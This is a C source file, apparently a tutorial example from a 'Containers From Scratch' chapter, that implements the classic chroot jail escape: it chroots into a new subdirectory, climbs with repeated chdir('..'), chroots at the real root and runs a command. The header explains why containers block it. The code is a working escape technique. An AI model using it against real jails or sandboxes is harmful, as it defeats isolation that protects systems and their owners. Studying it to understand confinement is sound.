/*
 * chroot-escape: leave a chroot jail, then run a command in the real root.
 *
 *   chroot-escape COMMAND [ARG...]
 *
 * chroot() changes one thing: the directory that "/" means for path lookups
 * of this process. It does not move the current directory, and ".." is only
 * stopped at the root a lookup started from. So a process that may call
 * chroot() (CAP_SYS_CHROOT) can:
 *   1. chroot into a subdirectory while its current directory stays above
 *      it, outside the new root;
 *   2. walk up with chdir("..") — no lookup ever passes through the new root,
 *      so nothing stops it at the old jail's top — until ".." of the real
 *      root is the real root itself;
 *   3. chroot(".") there: "/" is the machine's root again.
 * In a container this fails, for two reasons: the runtime drops
 * CAP_SYS_CHROOT by default, and after pivot_root the old root is unmounted
 * from the container's mount namespace, so there is nothing above "/" to
 * climb to.
 *
 * Containers From Scratch, chapter 3. Build it static, so it runs alone in a
 * root filesystem: cc -static -o chroot-escape chroot-escape.c
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "usage: chroot-escape COMMAND [ARG...]\n");
		return 2;
	}
	/* 1. a fresh directory to chroot into; our cwd stays where it is */
	if (mkdir(".escape", 0700) < 0 && errno != EEXIST) {
		perror("mkdir .escape");
		return 1;
	}
	if (chroot(".escape") < 0) {
		perror("chroot .escape");
		return 1;
	}
	/* 2. climb: our cwd is outside the root we just set, so ".." is never clamped */
	for (int i = 0; i < 256; i++) {
		if (chdir("..") < 0) {
			perror("chdir ..");
			return 1;
		}
	}
	/* 3. make the top of the climb our root */
	if (chroot(".") < 0) {
		perror("chroot .");
		return 1;
	}
	execvp(argv[1], argv + 1);
	fprintf(stderr, "exec %s: %s\n", argv[1], strerror(errno));
	return 127;
}
